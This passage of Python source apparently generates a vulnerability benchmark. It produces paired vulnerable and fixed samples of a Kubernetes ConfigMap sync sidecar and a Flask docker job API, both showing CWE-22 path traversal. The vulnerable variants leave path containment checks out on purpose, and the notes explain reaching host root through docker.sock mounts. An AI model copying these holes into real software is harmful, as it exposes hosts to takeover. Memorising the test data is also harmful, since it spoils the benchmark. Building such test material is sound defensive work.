def entries(cm: client.V1ConfigMap) -> list[tuple[str, str]]:
    """(relative path, content) pairs rendered by one ConfigMap."""
$entries


def target_for(rel: str) -> Path | None:
$join
    return target


def write_if_changed(target: Path, content: str) -> bool:
    """Replace the file only when the content differs, so the reload is not triggered for nothing."""
    if target.is_file() and target.read_text(encoding="utf-8") == content:
        return False
    target.parent.mkdir(parents=True, exist_ok=True)
    tmp = target.with_name(f".{target.name}.sync")
    tmp.write_text(content, encoding="utf-8")
    os.replace(tmp, target)
    log.info("updated %s", target)
    return True


def apply(cm: client.V1ConfigMap) -> bool:
    changed = False
    for rel, content in entries(cm):
        target = target_for(rel)
        if target is not None:
            changed |= write_if_changed(target, content)
    return changed


def reload_app() -> None:
    """SIGHUP to the process whose pid the app writes into the shared volume."""
    try:
        pid = int((SYNC_ROOT / "$pidfile").read_text().strip())
    except (FileNotFoundError, ValueError):
        log.warning("no pid file; reload skipped")
        return
    os.kill(pid, signal.SIGHUP)


$loop
'''

_SYNC_ENTRIES = {
    "annotation": ('Each ConfigMap names the file it renders in the "$ann"\n'
                   'annotation (for example "$example") and holds its content under "$key".',
                   '    rel = (cm.metadata.annotations or {}).get(ANNOTATION)  #@S\n'
                   '    data = cm.data or {}\n'
                   '    if not rel or CONTENT_KEY not in data:\n'
                   '        return []\n'
                   '    return [(rel, data[CONTENT_KEY])]'),
    "manifest": ('Each ConfigMap holds a "files.json" entry: a list of {"path", "content"}\n'
                 'objects, the path relative to the root (for example "$example").',
                 '    raw = (cm.data or {}).get("files.json")\n'
                 '    if not raw:\n'
                 '        return []\n'
                 '    return [(str(e["path"]), str(e["content"])) for e in json.loads(raw)]  #@S'),
}

_SYNC_LOOPS = {
    "watch": r'''
def main() -> int:
    logging.basicConfig(level=logging.INFO)
    config.load_incluster_config()
    core = client.CoreV1Api()
    while True:
        stream = watch.Watch().stream(core.list_namespaced_config_map, NAMESPACE,
                                      label_selector=SELECTOR, timeout_seconds=$timeout)
        for event in stream:
            if event["type"] in ("ADDED", "MODIFIED") and apply(event["object"]):
                reload_app()


if __name__ == "__main__":
    sys.exit(main())
''',
    "poll": r'''
def sync_once(core: client.CoreV1Api) -> int:
    changed = 0
    for cm in core.list_namespaced_config_map(NAMESPACE, label_selector=SELECTOR).items:
        changed += apply(cm)
    return changed


def main() -> int:
    logging.basicConfig(level=logging.INFO)
    config.load_incluster_config()
    core = client.CoreV1Api()
    while True:
        if sync_once(core):
            reload_app()
        time.sleep(INTERVAL)


if __name__ == "__main__":
    sys.exit(main())
''',
}


def _sync(c, safe, hn=False):
    travel = c.pick(*_SYNC_ENTRIES)
    entrydoc, entries = _SYNC_ENTRIES[travel]
    loop = c.pick(*_SYNC_LOOPS)
    app, example, pidfile = c.pick(("nginx", "conf.d/app.conf", "run/nginx.pid"),
                                   ("haproxy", "haproxy.d/backends.cfg", "haproxy.pid"),
                                   ("envoy", "listeners/public.yaml", "envoy.pid"),
                                   ("fluent-bit", "parsers/app.conf", "fluent-bit.pid"))
    if safe:
        entries = entries.replace("  #@S", "")
    shape = c.pick("div", "join", "lstrip")
    fixed = c.pick(  # drawn for both twins, so the draws after it stay in step
        "    target = (SYNC_ROOT / rel).resolve()\n"
        "    if not target.is_relative_to(SYNC_ROOT):\n"
        '        log.warning("path %r leaves the sync root, skipped", rel)\n'
        "        return None",
        "    target = Path(os.path.realpath(os.path.join(SYNC_ROOT, rel)))\n"
        "    if os.path.commonpath([SYNC_ROOT, target]) != str(SYNC_ROOT):\n"
        '        log.warning("path %r leaves the sync root, skipped", rel)\n'
        "        return None")
    if safe or hn:
        join = fixed
        if hn:
            join = ("    if Path(rel).is_absolute() or \"..\" in Path(rel).parts:\n"
                    '        log.warning("path %r is not a plain relative path, skipped", rel)\n'
                    "        return None\n"
                    "    target = SYNC_ROOT / rel")
    else:
        join = {"div": "    target = SYNC_ROOT / rel  #@V",
                "join": "    target = Path(os.path.normpath(os.path.join(SYNC_ROOT, rel)))  #@V",
                "lstrip": '    target = (SYNC_ROOT / rel.lstrip("/")).resolve()  #@V'}[shape]
    consts = ""
    if travel == "annotation":
        ann = c.pick("config-sync.example.com/path", "sync.ops.io/target", "files.example.net/render-to")
        consts += f'\nANNOTATION = "{ann}"\nCONTENT_KEY = "{c.pick("content", "file", "body")}"'
        entrydoc = entrydoc.replace("$ann", ann)
    if loop == "poll":
        consts += f"\nINTERVAL = {c.pick(10, 15, 30, 60)}"
    return _s(_SYNC, entrydoc=entrydoc.replace("$example", example).replace("$key", "CONTENT_KEY"),
              entries=entries, join=join,
              loop=_SYNC_LOOPS[loop].strip("\n").replace("$timeout", str(c.pick(60, 300, 600))), consts=consts,
              jsonimp="import json\n" if travel == "manifest" else "",
              timeimp="import time\n" if loop == "poll" else "",
              watchimp=", watch" if loop == "watch" else "",
              label=c.pick("config-sync=enabled", "ops.example.com/sync=true", "render=files"),
              root=c.pick("/shared/config", "/etc/rendered", "/var/run/config-sync"), app=app, pidfile=pidfile,
              reloaddoc=c.pick("sends it SIGHUP after a change.", "signals it to reload when a file changed."))


@fam("mod13-configmap-sync-target-path", "CWE-22", fws=["script"], n=8, wrap=False)
def mod13_configmap_sync_target_path(c):
    v, s = _replayed(c, _sync)
    return Spec(v=v, s=s, full=True, fw="script",
                notes="the file path comes from the ConfigMap (an annotation or the files.json list), which anyone "
                      "allowed to create ConfigMaps in the namespace controls, and is joined under the sync root "
                      "without a containment check: '../' segments or an absolute path write files anywhere the "
                      "sidecar can (other shared volumes, the app's binaries). The fix resolves the target and "
                      "skips one outside the root")


@hardneg(2)
def mod13_configmap_sync_target_path_hn(c):
    return Spec(s=_sync(c, True, hn=True), full=True, fw="script",
                notes="the path from the ConfigMap is joined to the root only after absolute paths and '..' "
                      "segments are refused")


# ---------------- CWE-22: job containers get the host directory the request names as a bind mount ----------------

_JOBS = r'''
"""Batch job API: runs $what in throwaway docker containers.

POST /jobs starts a container from one of the allowed images with a directory of the calling
team's workspace mounted at /data; GET /jobs/<id> reports its status and the end of its log.
Teams authenticate with the bearer token configured for them in JOB_TEAM_TOKENS."""
from __future__ import annotations

import hmac
import json
import logging
import os
from pathlib import Path

import docker
$mountimpfrom flask import Flask, abort, g, jsonify, request

app = Flask(__name__)
log = logging.getLogger(__name__)
dc = docker.from_env()

IMAGES = {$images}
WORKSPACES = Path(os.environ.get("JOB_WORKSPACES", "$ws")).resolve()
TEAM_TOKENS = dict(p.split(":", 1) for p in os.environ.get("JOB_TEAM_TOKENS", "").split(",") if ":" in p)


@app.before_request
def authenticate():
    token = request.headers.get("Authorization", "").removeprefix("Bearer ")
    for team, expected in TEAM_TOKENS.items():
        if token and hmac.compare_digest(token, expected):
            g.team = team
            return None
    abort(401)


def workspace_dir(team: str, name: str) -> Path:
    """An existing directory of the team's workspace, by its relative name."""
    base = (WORKSPACES / team).resolve()
    path = (base / name).resolve()
    if not path.is_relative_to(base) or not path.is_dir():
        abort(400, description="unknown workspace directory")
    return path


@app.get("/workspace")
def list_workspace():
    base = WORKSPACES / g.team
    return jsonify(sorted(p.name for p in base.iterdir() if p.is_dir()) if base.is_dir() else [])


@app.post("/jobs")
def start_job():
    body = request.get_json(force=True) or {}
    image = IMAGES.get(str(body.get("image", "")))
    if image is None:
        abort(400, description="image not allowed")
$src
    container = dc.containers.run(
        image,
        detach=True,
$mount
        environment={"JOB_PARAMS": json.dumps(body.get("params", {}))},
        network_disabled=$nonet,
        mem_limit="$mem",
        labels={"team": g.team, "api": "batch-jobs"},
    )
    log.info("team %s started %s in %s", g.team, image, container.short_id)
    return jsonify(id=container.id, image=image), 202


@app.get("/jobs/<job_id>")
def job_status(job_id: str):
    try:
        container = dc.containers.get(job_id)
    except docker.errors.NotFound:
        abort(404)
    if container.labels.get("team") != g.team:
        abort(404)
    tail = container.logs(tail=$tail).decode("utf-8", "replace")
    return jsonify(id=container.id, status=container.status, log=tail)


$opts
'''

_JOBS_OPTS = [r'''
@app.delete("/jobs/<job_id>")
def stop_job(job_id: str):
    try:
        container = dc.containers.get(job_id)
    except docker.errors.NotFound:
        abort(404)
    if container.labels.get("team") != g.team:
        abort(404)
    container.remove(force=True)
    return "", 204
''', r'''
@app.get("/images")
def list_images():
    return jsonify(sorted(IMAGES))
''', r'''
@app.get("/jobs")
def list_jobs():
    found = dc.containers.list(all=True, filters={"label": [f"team={g.team}", "api=batch-jobs"]})
    return jsonify([{"id": c.id, "status": c.status, "image": c.image.tags[:1]} for c in found])
''']


def _jobs(c, safe, hn=False):
    what, images = c.pick(
        ("data-science notebooks and scripts", '"pandas": "ghcr.io/acme/jobs-pandas:2.2", "r": "ghcr.io/acme/jobs-r:4.4"'),
        ("video transcodes", '"ffmpeg": "registry.example.com/media/ffmpeg:6.1"'),
        ("report builds", '"reports": "registry.example.com/bi/reports:latest", "latex": "texlive/texlive:latest"'),
        ("model evaluations", '"eval": "registry.example.com/ml/eval:1.9", "eval-gpu": "registry.example.com/ml/eval:1.9-cuda"'))
    key = c.pick("data_dir", "workdir", "input_path", "mount")
    expr = c.pick(f'str(body["{key}"])', f'str(body.get("{key}", ""))')
    if safe or hn:
        src = f"    host_dir = workspace_dir(g.team, {expr})"
    else:
        src = f"    host_dir = {expr}  #@S"
    shape = c.pick("dict", "list", "mount")
    mark = "" if (safe or hn) else "  #@V"
    mode = c.pick("rw", "ro")
    mount = {
        "dict": f'        volumes={{str(host_dir): {{"bind": "/data", "mode": "{mode}"}}}},{mark}',
        "list": f'        volumes=[f"{{host_dir}}:/data:{mode}"],{mark}',
        "mount": f'        mounts=[Mount(target="/data", source=str(host_dir), type="bind", read_only={mode == "ro"})],{mark}',
    }[shape]
    opts = _opt(c, *_JOBS_OPTS, least=0, most=2)
    return _s(_JOBS, what=what, images=images, src=src, mount=mount, opts=opts,
              mountimp="from docker.types import Mount\n" if shape == "mount" else "",
              ws=c.pick("/srv/workspaces", "/data/teams", "/var/lib/batch/ws"), nonet=c.pick("True", "False"),
              mem=c.pick("2g", "4g", "8g"), tail=c.pick(50, 100, 200))


@fam("mod13-job-runner-request-bind-mount", "CWE-22", fws=["flask"], n=8, wrap=False)
def mod13_job_runner_request_bind_mount(c):
    v, s = _replayed(c, _jobs)
    return Spec(v=v, s=s, full=True, fw="flask",
                notes="the job request names the host directory that is bind-mounted into the container, and the "
                      "container runs as root: a team asks for '/', '/etc' or '/var/run/docker.sock' and gets the "
                      "host's files (or its docker daemon, i.e. root on the host) inside its job. The fix mounts only "
                      "a directory of the caller's own workspace, through the workspace_dir check. CWE-22: the "
                      "request's pathname is not limited to the team's workspace directory")


@hardneg(2)
def mod13_job_runner_request_bind_mount_hn(c):
    return Spec(s=_jobs(c, True, hn=True), full=True, fw="flask",
                notes="containers get a bind mount, but only of a directory resolved inside the calling team's "
                      "workspace")
